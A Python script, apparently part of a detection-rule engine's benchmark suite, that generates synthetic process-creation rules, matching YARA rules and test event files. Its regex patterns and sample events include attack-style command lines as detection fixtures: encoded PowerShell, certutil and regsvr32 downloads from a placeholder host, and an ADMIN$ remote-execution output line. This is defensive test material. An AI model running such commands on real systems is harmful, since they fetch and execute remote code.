#!/usr/bin/env python3
"""Generate the benchmark inputs of `make bench` into bench/work/ (stdlib only).

Deterministic: the same seed gives the same bytes. What it writes:

  rules-{1k,10k,100k}/src-NN.yaml  mixed rule sets (process-creation template):
                                   literal equals, prefix, regex, uint equals/range
                                   and bool criteria, some nocase; 25,000
                                   instances per source file (a source is capped
                                   at 16 MiB), all files form one channel
  rules-{1k,10k,100k}.yar          the same patterns as YARA rules, one per instance
  run-literal/src-00.yaml          1,000 instances of equals/prefix/uint/bool only
  run-regex/src-00.yaml            1,000 instances with one or two regexes each
  events-{literal,regex}.jsonl     process-creation events; ~1% hit a rule
  events-empty.jsonl               no events (load time alone)
  many/cNNN/src-00.yaml            100 channels (1000..1099) of 20 instances each
  wide/src-NN.yaml                 24,000 instances of bench/templates/bench-wide.yaml
                                   (128 fields): compiled, this is the ~100 MB file

Mapping to YARA (one rule per instance, named r<id>):
  string equals / prefix X     ->  $fN = "X"            (nocase: "X" nocase)
  string regex R               ->  $fN = /R/            (nocase: /R/i)
  uint equals V at field N     ->  uint32(8*N) == V
  uint range [lo, hi]          ->  uint32(8*N) >= lo and uint32(8*N) <= hi
  bool equals B                ->  uint8(8*N) == B
  condition                    ->  all of them and <the integer tests>
YARA scans bytes rather than typed fields, so a field is modelled as a fixed offset
(8 bytes per field) for integers; the string literals and regexes are the same text.
Regexes use only syntax both PCRE2 and YARA accept: literals, escapes (\\ \. \s \d),
classes, groups with alternation, ?, *, + and {m,n}, ^ and $; no lookaround,
backreferences or inline flags.
"""
import argparse
import json
import os
import random

SEED = 20240719
PER_FILE = 25000

# process-creation fields (samples/templates/process-creation.yaml), input-array order.
FIELDS = [
    ("image", "string"), ("command_line", "string"), ("pid", "uint"),
    ("parent_image", "string"), ("parent_command_line", "string"), ("parent_pid", "uint"),
    ("user", "string"), ("integrity_level", "uint"), ("is_elevated", "bool"),
    ("session_id", "uint"), ("current_directory", "string"), ("is_signed", "bool"),
    ("signer", "string"), ("original_file_name", "string"), ("grandparent_image", "string"),
    ("token_elevation_type", "uint"),
]
FIDX = {n: i for i, (n, _) in enumerate(FIELDS)}

SYL = ["ka", "lo", "mi", "ter", "zen", "dra", "vo", "pul", "sek", "nix", "ra", "tho",
       "gel", "mon", "qua", "bri", "sto", "fen", "jur", "wal", "cor", "dex", "hy", "pra"]
DIRS = ["C:\\Windows\\System32\\", "C:\\Windows\\SysWOW64\\", "C:\\Windows\\Temp\\",
        "C:\\Program Files\\", "C:\\Program Files (x86)\\", "C:\\ProgramData\\",
        "C:\\Users\\Public\\", "C:\\Users\\jdoe\\AppData\\Local\\Temp\\",
        "C:\\Users\\jdoe\\AppData\\Roaming\\", "C:\\Users\\jdoe\\Downloads\\"]
VENDORS = ["Contoso", "Fabrikam", "Northwind", "Litware", "Adatum", "Tailspin", "Wingtip"]
SIGNERS = ["Microsoft Windows", "Microsoft Corporation", "Google LLC", "Mozilla Corporation",
           "Contoso Ltd", ""]
USERS = ["CORP\\jdoe", "CORP\\asmith", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE",
         "CORP\\svc_backup"]
COMMON = ["svchost", "explorer", "chrome", "firefox", "outlook", "winword", "excel", "cmd",
          "powershell", "rundll32", "taskhostw", "msedge", "teams", "onedrive", "conhost"]
FLAGS = ["-enc", "-nop", "/c", "/q", "-w hidden", "--type=renderer", "-k netsvcs", "/s", "-ma"]


class Gen:
    def __init__(self, seed):
        self.r = random.Random(seed)

    def word(self, n=3):
        return "".join(self.r.choice(SYL) for _ in range(n))

    def token(self, i):
        # unique per instance: keeps instances distinct (no duplicates or shadowing)
        return "%s%d" % (self.word(2), i)

    def path_dir(self):
        d = self.r.choice(DIRS)
        if d.startswith("C:\\Program Files"):
            d += self.r.choice(VENDORS) + "\\" + self.word(2).capitalize() + "\\"
        return d


def yq(s):
    """A YAML single-quoted scalar."""
    return "'" + s.replace("'", "''") + "'"


def yara_str(s):
    out = []
    for ch in s:
        if ch == "\\":
            out.append("\\\\")
        elif ch == '"':
            out.append('\\"')
        elif 32 <= ord(ch) < 127:
            out.append(ch)
        else:
            out.append("\\x%02x" % ord(ch))
    return '"' + "".join(out) + '"'


def re_escape(s):
    """Escape a literal for a regex both PCRE2 and YARA read the same way."""
    out = []
    for ch in s:
        if ch.isalnum() or ch in " _-:,=":
            out.append(ch)
        else:
            out.append("\\" + ch)
    return "".join(out)


def yara_re(r):
    return "/" + r.replace("/", "\\/") + "/"


# ---- criteria ----------------------------------------------------------------
# A criterion: (field, kind, value, nocase); kind in equals/prefix/regex/range/ueq/bool.

# A string each regex criterion matches, by pattern: what a hit event puts
# in the field (computed from the token alone, so the random stream, and with
# it every rule, is the same as without it).
REGEX_EXAMPLE = {}


def pick_regex(g, field, pats, examples, nocase):
    """One of pats; nocase is a bool, or the probability of nocase (drawn after the pick)."""
    k = g.r.choice(range(len(pats))) if len(pats) > 1 else 0
    REGEX_EXAMPLE[pats[k]] = examples[k]
    if not isinstance(nocase, bool):
        nocase = g.r.random() < nocase
    return (field, "regex", pats[k], nocase)


def crit_string(g, i, kind, field):
    t = g.token(i)
    if field in ("image", "parent_image", "grandparent_image"):
        if kind == "equals":
            return (field, "equals", g.path_dir() + t + ".exe", g.r.random() < 0.5)
        if kind == "prefix":
            return (field, "prefix", g.path_dir() + t + "\\", g.r.random() < 0.5)
        pats = [
            "\\\\%s\\.exe$" % t,
            "\\\\(%s|%s)\\.exe$" % (t, g.word(2)),
            "\\\\%s[0-9]{1,3}\\.(exe|dll)$" % t,
            "^C:\\\\Users\\\\[^\\\\]+\\\\AppData\\\\.*\\\\%s\\.exe$" % t,
        ]
        ex = ["C:\\Windows\\System32\\%s.exe" % t, "C:\\Windows\\System32\\%s.exe" % t,
              "C:\\Windows\\Temp\\%s42.dll" % t,
              "C:\\Users\\jdoe\\AppData\\Local\\Temp\\%s.exe" % t]
        return pick_regex(g, field, pats, ex, 0.6)
    if field in ("command_line", "parent_command_line"):
        if kind == "equals":
            return (field, "equals", "%s.exe %s %s" % (t, g.r.choice(FLAGS), g.word(3)), False)
        if kind == "prefix":
            return (field, "prefix", "\"C:\\Program Files\\%s\\%s.exe\" " % (g.r.choice(VENDORS), t),
                    g.r.random() < 0.3)
        pats = [
            "\\s[-/](e|ec|enc|encodedcommand)\\s+%s[A-Za-z0-9+/]{20,}" % t,
            "%s(\\.exe)?\\s+[-/](urlcache|split)\\s.*https?://" % t,
            "[-/]i:https?://\\S+\\s+%s(\\.dll)?" % t,
            "\\\\\\\\127\\.0\\.0\\.1\\\\ADMIN\\$\\\\__%s[0-9.]+" % t,
            "%s\\.exe\"?\\s*$" % t,
        ]
        ex = ["powershell.exe -enc %sSQBFAFgAIAAoAE4AZQB3AC0A" % t,
              "%s.exe -urlcache -f http://dl.example.net/a.bin" % t,
              "regsvr32.exe /s /i:http://dl.example.net/x.sct %s.dll" % t,
              "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__%s1700.5" % t,
              "\"C:\\Tools\\%s.exe\"" % t]
        return pick_regex(g, field, pats, ex, 0.6)
    if field == "original_file_name":
        if kind == "regex":
            return pick_regex(g, field, ["^%s\\.(exe|dll)$" % t], [t + ".dll"], True)
        return (field, kind, t + (".exe" if kind == "equals" else ""), g.r.random() < 0.7)
    if field == "user":
        if kind == "regex":
            return pick_regex(g, field, ["^CORP\\\\%s[0-9]*$" % t], ["CORP\\%s7" % t], True)
        return (field, kind, "CORP\\" + t, True)
    if field == "signer":
        if kind == "regex":
            return pick_regex(g, field, ["^%s (Ltd|Inc|LLC)$" % t.capitalize()],
                              [t.capitalize() + " Inc"], False)
        return (field, kind, t.capitalize() + " Ltd", False)
    # current_directory
    if kind == "regex":
        return pick_regex(g, field, ["\\\\%s\\\\$" % t], ["C:\\Users\\%s\\" % t], True)
    return (field, kind, g.path_dir() + t + "\\", True)


STRING_FIELDS_W = [("image", 5), ("command_line", 5), ("parent_image", 3),
                   ("original_file_name", 3), ("parent_command_line", 1), ("user", 1),
                   ("signer", 1), ("current_directory", 1), ("grandparent_image", 1)]


def pick_weighted(g, items):
    tot = sum(w for _, w in items)
    x = g.r.random() * tot
    for it, w in items:
        x -= w
        if x < 0:
            return it
    return items[-1][0]


def crit_int(g):
    f = g.r.choice(["integrity_level", "session_id", "token_elevation_type", "pid",
                    "is_elevated", "is_signed", "parent_pid"])
    if f == "integrity_level":
        return (f, "range", (12288, 16384), False) if g.r.random() < 0.6 else (f, "ueq", 8192, False)
    if f == "session_id":
        return (f, "ueq", 0, False)
    if f == "token_elevation_type":
        return (f, "ueq", g.r.choice([1, 2, 3]), False)
    if f in ("pid", "parent_pid"):
        lo = g.r.randrange(4, 60000)
        return (f, "range", (lo, lo + g.r.randrange(100, 5000)), False)
    return (f, "bool", g.r.random() < 0.5, False)


def instance(g, i, mix):
    """Criteria of instance i. mix: mixed | literal | regex."""
    crits = {}
    if mix == "mixed":
        nstr = g.r.choice([1, 2, 2, 3])
        kinds = [("equals", 35), ("prefix", 25), ("regex", 30)]
    elif mix == "literal":
        nstr = g.r.choice([1, 2, 2])
        kinds = [("equals", 60), ("prefix", 40)]
    else:
        nstr = g.r.choice([1, 2])
        kinds = [("regex", 1)]
    while len(crits) < nstr:
        f = pick_weighted(g, STRING_FIELDS_W)
        if f in crits:
            continue
        crits[f] = crit_string(g, i, pick_weighted(g, kinds), f)
    if mix == "regex" and g.r.random() < 0.5:
        # half the regex rules also name a literal field, as real rules do
        f = "original_file_name"
        if f not in crits:
            crits[f] = crit_string(g, i, "equals", f)
    nint = g.r.choice([0, 1, 1, 2]) if mix != "regex" else g.r.choice([0, 1])
    for _ in range(nint):
        c = crit_int(g)
        crits.setdefault(c[0], c)
    return [crits[n] for n, _ in FIELDS if n in crits]


def yaml_crit(c):
    f, kind, v, nocase = c
    if kind in ("equals", "prefix", "regex"):
        s = "{%s: %s%s}" % (kind, yq(v), ", nocase: true" if nocase else "")
    elif kind == "range":
        s = "{range: [%d, %d]}" % v
    elif kind == "ueq":
        s = "{equals: %d}" % v
    else:
        s = "{equals: %s}" % ("true" if v else "false")
    return "      %s: %s\n" % (f, s)


ACTIONS = ["detect"] * 6 + ["block"] * 2 + ["log"] * 2
SEVS = ["info", "low", "medium", "medium", "high", "high", "critical"]


def write_sources(g, outdir, n, mix, channel, template="process-creation", make=None):
    os.makedirs(outdir, exist_ok=True)
    rules = []
    files = []
    for start in range(0, n, PER_FILE):
        path = os.path.join(outdir, "src-%02d.yaml" % (start // PER_FILE))
        parts = ["# generated by bench/gen.py\nchannel: %d\ntemplate: %s\nversion: 1\n"
                 "instances:\n" % (channel, template)]
        for i in range(start, min(n, start + PER_FILE)):
            iid = 100000 + i
            crits = make(g, i) if make else instance(g, i, mix)
            rules.append((iid, crits))
            parts.append("  - id: %d\n    name: bench-%s-%d\n    action: %s\n    severity: %s\n"
                         "    match:\n" % (iid, mix, i, g.r.choice(ACTIONS), g.r.choice(SEVS)))
            parts.extend(yaml_crit(c) for c in crits)
        with open(path, "w") as fh:
            fh.write("".join(parts))
        files.append(path)
    return rules


def write_yara(path, rules):
    parts = ["// generated by bench/gen.py: the patterns of the matching cfc rule set\n\n"]
    for iid, crits in rules:
        strs, conds = [], []
        for c in crits:
            f, kind, v, nocase = c
            off = 8 * FIDX[f]
            if kind in ("equals", "prefix"):
                strs.append("    $f%d = %s%s\n" % (FIDX[f], yara_str(v), " nocase" if nocase else ""))
            elif kind == "regex":
                strs.append("    $f%d = %s%s\n" % (FIDX[f], yara_re(v), "i" if nocase else ""))
            elif kind == "range":
                conds.append("uint32(%d) >= %d and uint32(%d) <= %d" % (off, v[0], off, v[1]))
            elif kind == "ueq":
                conds.append("uint32(%d) == %d" % (off, v))
            else:
                conds.append("uint8(%d) == %d" % (off, 1 if v else 0))
        if strs:
            conds.insert(0, "all of them")
        parts.append("rule r%d\n{\n" % iid)
        if strs:
            parts.append("  strings:\n")
            parts.extend(strs)
        parts.append("  condition:\n    %s\n}\n\n" % " and ".join(conds))
    with open(path, "w") as fh:
        fh.write("".join(parts))


# ---- events ------------------------------------------------------------------

def benign_event(g):
    name = g.r.choice(COMMON)
    d = g.r.choice(["C:\\Windows\\System32\\", "C:\\Program Files\\Google\\Chrome\\Application\\",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\"])
    parent = g.r.choice(COMMON)
    return {
        "image": d + name + ".exe",
        "command_line": "%s.exe %s %s" % (name, g.r.choice(FLAGS), g.word(3)),
        "pid": g.r.randrange(4, 65000),
        "parent_image": "C:\\Windows\\System32\\" + parent + ".exe",
        "parent_command_line": "C:\\Windows\\system32\\%s.exe -k %s" % (parent, g.word(2)),
        "parent_pid": g.r.randrange(4, 65000),
        "user": g.r.choice(USERS),
        "integrity_level": g.r.choice([4096, 8192, 12288, 16384]),
        "is_elevated": g.r.random() < 0.2,
        "session_id": g.r.choice([0, 1, 1, 2]),
        "current_directory": "C:\\Users\\jdoe\\",
        "is_signed": g.r.random() < 0.9,
        "signer": g.r.choice(SIGNERS),
        "original_file_name": name + ".exe",
        "grandparent_image": "C:\\Windows\\explorer.exe",
        "token_elevation_type": g.r.choice([1, 2, 3]),
    }


def hit_event(g, crits):
    """An event that satisfies the criteria of a rule (regexes by their example)."""
    ev = benign_event(g)
    for f, kind, v, _ in crits:
        if kind == "equals":
            ev[f] = v
        elif kind == "prefix":
            ev[f] = v + "x.exe"
        elif kind == "range":
            ev[f] = v[0]
        elif kind == "ueq":
            ev[f] = v
        elif kind == "bool":
            ev[f] = bool(v)
        elif kind == "regex" and v in REGEX_EXAMPLE:
            ev[f] = REGEX_EXAMPLE[v]
    return ev


def write_events(g, path, n, rules):
    with open(path, "w") as fh:
        for k in range(n):
            ev = hit_event(g, g.r.choice(rules)[1]) if g.r.random() < 0.01 else benign_event(g)
            fh.write(json.dumps({"template": "process-creation", "fields": ev},
                                separators=(", ", ": ")) + "\n")


# ---- the wide template (~100 MB channel file) --------------------------------

WIDE_FIELDS = 128


def wide_types():
    return ["string" if f % 4 in (0, 1) else "uint" if f % 4 == 2 else "bool"
            for f in range(WIDE_FIELDS)]


def wide_instance(g, i):
    types = wide_types()
    crits = []
    for f in sorted(g.r.sample(range(WIDE_FIELDS), 10)):
        name = "f%03d" % f
        t = types[f]
        if t == "string":
            k = g.r.choice(["equals", "prefix", "regex"])
            tok = g.token(i)
            v = {"equals": g.path_dir() + tok + ".exe", "prefix": g.path_dir() + tok + "\\",
                 "regex": "\\\\%s[0-9]{1,3}\\.(exe|dll)$" % tok}[k]
            crits.append((name, k, v, g.r.random() < 0.5))
        elif t == "uint":
            lo = g.r.randrange(0, 100000)
            crits.append((name, "range", (lo, lo + 1000), False))
        else:
            crits.append((name, "bool", g.r.random() < 0.5, False))
    return crits


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "work"))
    ap.add_argument("--seed", type=int, default=SEED)
    ap.add_argument("--events", type=int, default=100000)
    ap.add_argument("--wide", type=int, default=24000, help="instances of the wide channel")
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    g = Gen(a.seed)
    for label, n in (("1k", 1000), ("10k", 10000), ("100k", 100000)):
        rules = write_sources(g, os.path.join(a.out, "rules-" + label), n, "mixed", 500)
        write_yara(os.path.join(a.out, "rules-%s.yar" % label), rules)
    for mix in ("literal", "regex"):
        rules = write_sources(g, os.path.join(a.out, "run-" + mix), 1000, mix, 501)
        write_yara(os.path.join(a.out, "run-%s.yar" % mix), rules)
        write_events(g, os.path.join(a.out, "events-%s.jsonl" % mix), a.events, rules)
    open(os.path.join(a.out, "events-empty.jsonl"), "w").close()
    write_sources(g, os.path.join(a.out, "wide"), a.wide, "wide", 502, template="bench-wide",
                  make=wide_instance)
    # 100 small channels (sign, bundle, unbundle): channels 1000..1099, 20 instances each
    for k in range(100):
        d = os.path.join(a.out, "many", "c%03d" % k)
        write_sources(g, d, 20, "mixed", 1000 + k)
    with open(os.path.join(a.out, "SEED"), "w") as fh:
        fh.write("%d\n" % a.seed)


if __name__ == "__main__":
    main()
